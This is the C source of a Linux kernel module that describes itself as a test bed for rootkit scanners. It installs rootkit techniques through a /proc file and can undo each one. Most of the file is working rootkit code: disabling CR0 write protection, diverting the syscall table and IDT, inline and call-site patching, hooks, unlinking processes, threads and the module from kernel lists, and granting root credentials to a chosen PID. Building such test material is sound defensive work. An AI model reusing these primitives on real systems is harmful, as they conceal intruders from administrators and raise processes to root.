// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What rootkits do to a kernel, one technique at a time and each undone on request, for the test of
 * the scanners. It does no more than divert and hide: every diverted function still does its work.
 *
 * echo "COMMAND [ARGUMENT]" > /proc/tocsin_rootkit; without an argument that begins with "un", a
 * technique stays until its "un" is written, or the machine ends.
 */
#include <asm/desc_defs.h>
#include <asm/insn.h>
#include <asm/syscall.h>
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/sched/signal.h>
#include <linux/seq_file.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <linux/uaccess.h>

static unsigned long (*lookup)(const char *name);

/* kallsyms_lookup_name is not exported: a kprobe on it tells where it is. */
static int find_lookup(void)
{
	struct kprobe probe = {.symbol_name = "kallsyms_lookup_name"};
	int rc = register_kprobe(&probe);

	if (rc)
		return rc;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

/* Write to what is mapped read-only: CR0.WP off on this processor, as rootkits do. */
static void poke(void *to, const void *from, size_t size)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000ul) : "memory");
	memcpy(to, from, size);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* One pointer that can be diverted and put back. */
struct diversion {
	void *at, *old;
};

static int divert(struct diversion *d, void *at, void *to)
{
	if (!at || d->at)
		return -EINVAL;
	d->old = *(void **)at;
	d->at = at;
	poke(at, &to, sizeof(to));
	return 0;
}

static int put_back(struct diversion *d)
{
	if (!d->at)
		return -EINVAL;
	poke(d->at, &d->old, sizeof(d->old));
	d->at = NULL;
	return 0;
}

/* ---- system calls, tables, interrupts, terminals ---- */

static struct diversion syscall_entry, seq_show, tty_receive;

static asmlinkage long diverted_syscall(const struct pt_regs *regs)
{
	return ((asmlinkage long (*)(const struct pt_regs *))syscall_entry.old)(regs);
}

static int diverted_show(struct seq_file *m, void *v)
{
	return ((int (*)(struct seq_file *, void *))seq_show.old)(m, v);
}

static void diverted_receive(void)
{
}

static gate_desc old_gate, *gate;

static int divert_interrupt(void)
{
	gate_desc now;

	gate = (gate_desc *)lookup("idt_table");
	if (!gate)
		return -ENOENT;
	gate += 4; /* overflow, which nothing raises in 64-bit code */
	old_gate = now = *gate;
	now.offset_low = (u16)(unsigned long)diverted_receive;
	now.offset_middle = (u16)((unsigned long)diverted_receive >> 16);
	now.offset_high = (u32)((unsigned long)diverted_receive >> 32);
	poke(gate, &now, sizeof(now));
	return 0;
}

/* ---- the first bytes of a function ---- */

#define PATCHED "__x64_sys_sysinfo"

static u8 old_bytes[12];
static void *patched;

static long instead_of_patched(const struct pt_regs *regs)
{
	return -ENOSYS;
}

static int patch_function(void)
{
	u8 jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0}; /* movabs, jmp *%rax */
	unsigned long to = (unsigned long)instead_of_patched;

	patched = (void *)lookup(PATCHED);
	if (!patched)
		return -ENOENT;
	memcpy(jump + 2, &to, sizeof(to));
	memcpy(old_bytes, patched, sizeof(old_bytes));
	poke(patched, jump, sizeof(jump));
	return 0;
}

/* ---- the middle of a function ---- */

#define CALLING "ksys_read"
#define NEVER_CALLED "kernel_halt"

static u8 *call_site, *stop_site, stopped;
static s32 old_distance;
void *tocsin_called; /* by the function that is patched */

/* Instead of what is called: hands over to it, with everything as it was. */
void tocsin_instead_of_called(void);
asm(".pushsection .text\n"
    "tocsin_instead_of_called:\n"
    "	.byte 0xff, 0x25\n" /* jmp *tocsin_called(%rip), unseen by those who forbid it */
    "	.long tocsin_called - . - 4\n"
    ".popsection\n");

/* The first instruction of the function, some bytes into it, with that opcode; any: 0. */
static u8 *find_instruction(const char *name, u8 opcode)
{
	int (*decode)(struct insn *, const void *, int, enum insn_mode) =
	    (void *)lookup("insn_decode");
	u8 *begin = (u8 *)lookup(name), *at = begin;
	struct insn insn;

	if (!begin || !decode)
		return NULL;
	for (; at < begin + 512; at += insn.length) {
		if (decode(&insn, at, MAX_INSN_SIZE, INSN_MODE_64) < 0)
			return NULL;
		if (at >= begin + 16 && (!opcode || *at == opcode))
			return at;
	}
	return NULL;
}

static int divert_call(void)
{
	s32 distance;

	if (call_site)
		return -EINVAL;
	call_site = find_instruction(CALLING, 0xe8);
	if (!call_site)
		return -ENOENT;
	memcpy(&old_distance, call_site + 1, sizeof(old_distance));
	tocsin_called = call_site + 5 + old_distance;
	distance = (s32)((u8 *)tocsin_instead_of_called - (call_site + 5));
	poke(call_site + 1, &distance, sizeof(distance));
	return 0;
}

static int undivert_call(void)
{
	if (!call_site)
		return -EINVAL;
	poke(call_site + 1, &old_distance, sizeof(old_distance));
	call_site = NULL;
	return 0;
}

/* As those do who take the exception themselves; nothing here does, so nobody may come by. */
static int place_breakpoint(void)
{
	u8 breakpoint = 0xcc;

	stop_site = find_instruction(NEVER_CALLED, 0);
	if (!stop_site)
		return -ENOENT;
	stopped = *stop_site;
	poke(stop_site, &breakpoint, 1);
	return 0;
}

static int remove_breakpoint(void)
{
	if (!stop_site)
		return -EINVAL;
	poke(stop_site, &stopped, 1);
	stop_site = NULL;
	return 0;
}

/* ---- what is for registering ---- */

static void notrace on_function(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
				struct ftrace_regs *regs)
{
}

static struct ftrace_ops ftrace_hook = {.func = on_function, .flags = FTRACE_OPS_FL_SAVE_REGS};

static int hook_ftrace(void)
{
	unsigned long at = lookup("__x64_sys_getdents64");
	int (*filter)(struct ftrace_ops *, unsigned long, int, int) =
	    (void *)lookup("ftrace_set_filter_ip");
	int (*enable)(struct ftrace_ops *) = (void *)lookup("register_ftrace_function");
	unsigned long endbr = 0;
	int rc = -ENOENT;

	if (!at || !filter || !enable)
		return rc;
	for (endbr = 0; endbr <= 4 && rc; endbr += 4)
		rc = filter(&ftrace_hook, at + endbr, 0, 0);
	return rc ? rc : enable(&ftrace_hook);
}

static int unhook_ftrace(void)
{
	int (*disable)(struct ftrace_ops *) = (void *)lookup("unregister_ftrace_function");

	return disable ? disable(&ftrace_hook) : -ENOENT;
}

static int on_probe(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe = {.symbol_name = "kernel_clone", .pre_handler = on_probe};

static unsigned int on_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops packet_hook = {
    .hook = on_packet, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = 0};

static int on_key(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block key_hook = {.notifier_call = on_key};

/* ---- hiding ---- */

static struct task_struct *hidden;

static struct task_struct *task_of(int pid)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	rcu_read_unlock();
	return task;
}

static int hide_process(int pid)
{
	hidden = task_of(pid);
	if (!hidden)
		return -ESRCH;
	list_del_rcu(&hidden->tasks);
	return 0;
}

static int unhide_process(void)
{
	if (!hidden)
		return -EINVAL;
	list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	hidden = NULL;
	return 0;
}

static struct task_struct *hidden_thread;

/* The second thread of the process; without its number too it is on no list at all. */
static int hide_thread(int pid, bool number)
{
	struct task_struct *leader = task_of(pid);

	if (!leader || list_is_singular(&leader->signal->thread_head))
		return -ESRCH;
	hidden_thread =
	    list_last_entry(&leader->signal->thread_head, struct task_struct, thread_node);
	list_del_rcu(&hidden_thread->thread_node);
	if (number)
		hlist_del_init_rcu(&hidden_thread->pid_links[PIDTYPE_PID]);
	return 0;
}

static int unhide_thread(void)
{
	struct hlist_node *link;

	if (!hidden_thread)
		return -EINVAL;
	link = &hidden_thread->pid_links[PIDTYPE_PID];
	if (hlist_unhashed(link))
		hlist_add_head_rcu(link, &hidden_thread->thread_pid->tasks[PIDTYPE_PID]);
	list_add_tail_rcu(&hidden_thread->thread_node, &hidden_thread->signal->thread_head);
	hidden_thread = NULL;
	return 0;
}

static struct list_head *before;

static int hide_module(void)
{
	before = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	return 0;
}

static int unhide_module(void)
{
	if (!before)
		return -EINVAL;
	list_add(&THIS_MODULE->list, before);
	before = NULL;
	return 0;
}

static int hide_everywhere(void)
{
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

/* Nor can its code be found by an address: what it does then may no longer fault. */
static int hide_from_tree(void)
{
	void (*remove)(struct module *) = (void *)lookup("mod_tree_remove");

	if (!remove)
		return -ENOENT;
	remove(THIS_MODULE);
	return 0;
}

/* ---- rights ---- */

static struct task_struct *raised;
static const struct cred *old_cred;
static kuid_t old_uid;

static void set_cred(struct task_struct *task, const struct cred *cred)
{
	rcu_assign_pointer(task->real_cred, cred);
	rcu_assign_pointer(task->cred, cred);
}

static int share_credentials(int pid)
{
	raised = task_of(pid);
	if (!raised)
		return -ESRCH;
	old_cred = raised->real_cred;
	set_cred(raised, get_cred(get_cred(init_task.real_cred)));
	return 0;
}

static int unshare_credentials(void)
{
	if (!raised)
		return -EINVAL;
	set_cred(raised, old_cred);
	return 0;
}

static int forge_credentials(int pid)
{
	struct cred *cred;

	raised = task_of(pid);
	if (!raised)
		return -ESRCH;
	cred = (struct cred *)raised->real_cred;
	old_uid = cred->uid;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return 0;
}

static int unforge_credentials(void)
{
	struct cred *cred;

	if (!raised)
		return -EINVAL;
	cred = (struct cred *)raised->real_cred;
	cred->uid = cred->euid = cred->suid = cred->fsuid = old_uid;
	return 0;
}

/* ---- commands ---- */

static int run(const char *command, int number)
{
#define IS(text) (!strcmp(command, text))
	if (IS("syscall"))
		return divert(&syscall_entry, (void **)lookup("sys_call_table") + __NR_getdents64,
			      diverted_syscall);
	if (IS("unsyscall"))
		return put_back(&syscall_entry);
	if (IS("table"))
		return divert(&seq_show,
			      (void *)lookup("tcp4_seq_ops") +
				  offsetof(struct seq_operations, show),
			      diverted_show);
	if (IS("untable"))
		return put_back(&seq_show);
	if (IS("tty"))
		return divert(&tty_receive,
			      (void *)lookup("n_tty_ops") +
				  offsetof(struct tty_ldisc_ops, dcd_change),
			      diverted_receive);
	if (IS("untty"))
		return put_back(&tty_receive);
	if (IS("interrupt"))
		return divert_interrupt();
	if (IS("uninterrupt"))
		return poke(gate, &old_gate, sizeof(old_gate)), 0;
	if (IS("inline"))
		return patch_function();
	if (IS("uninline"))
		return poke(patched, old_bytes, sizeof(old_bytes)), 0;
	if (IS("call"))
		return divert_call();
	if (IS("uncall"))
		return undivert_call();
	if (IS("breakpoint"))
		return place_breakpoint();
	if (IS("unbreakpoint"))
		return remove_breakpoint();
	if (IS("ftrace"))
		return hook_ftrace();
	if (IS("unftrace"))
		return unhook_ftrace();
	if (IS("kprobe"))
		return register_kprobe(&probe);
	if (IS("unkprobe"))
		return unregister_kprobe(&probe), 0;
	if (IS("netfilter"))
		return nf_register_net_hook(&init_net, &packet_hook);
	if (IS("unnetfilter"))
		return nf_unregister_net_hook(&init_net, &packet_hook), 0;
	if (IS("keyboard"))
		return register_keyboard_notifier(&key_hook);
	if (IS("unkeyboard"))
		return unregister_keyboard_notifier(&key_hook);
	if (IS("hide-process"))
		return hide_process(number);
	if (IS("unhide-process"))
		return unhide_process();
	if (IS("hide-thread"))
		return hide_thread(number, false);
	if (IS("hide-running-thread"))
		return hide_thread(number, true);
	if (IS("unhide-thread"))
		return unhide_thread();
	if (IS("hide-module"))
		return hide_module();
	if (IS("unhide-module"))
		return unhide_module();
	if (IS("hide-everywhere"))
		return hide_everywhere();
	if (IS("hide-from-tree"))
		return hide_from_tree();
	if (IS("share"))
		return share_credentials(number);
	if (IS("unshare"))
		return unshare_credentials();
	if (IS("forge"))
		return forge_credentials(number);
	if (IS("unforge"))
		return unforge_credentials();
#undef IS
	return -EINVAL;
}

static ssize_t on_write(struct file *file, const char __user *from, size_t size, loff_t *at)
{
	char text[64] = "", command[32] = "";
	int number = 0, rc;

	if (size >= sizeof(text) || copy_from_user(text, from, size))
		return -EINVAL;
	if (sscanf(text, "%31s %d", command, &number) < 1)
		return -EINVAL;
	rc = run(command, number);
	return rc ? rc : (ssize_t)size;
}

static const struct proc_ops operations = {.proc_write = on_write};

static int __init begin(void)
{
	int rc = find_lookup();

	if (rc)
		return rc;
	return proc_create("tocsin_rootkit", 0200, NULL, &operations) ? 0 : -ENOMEM;
}

static void __exit end(void)
{
	remove_proc_entry("tocsin_rootkit", NULL);
}

module_init(begin);
module_exit(end);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("techniques of rootkits, for testing those who look for them");
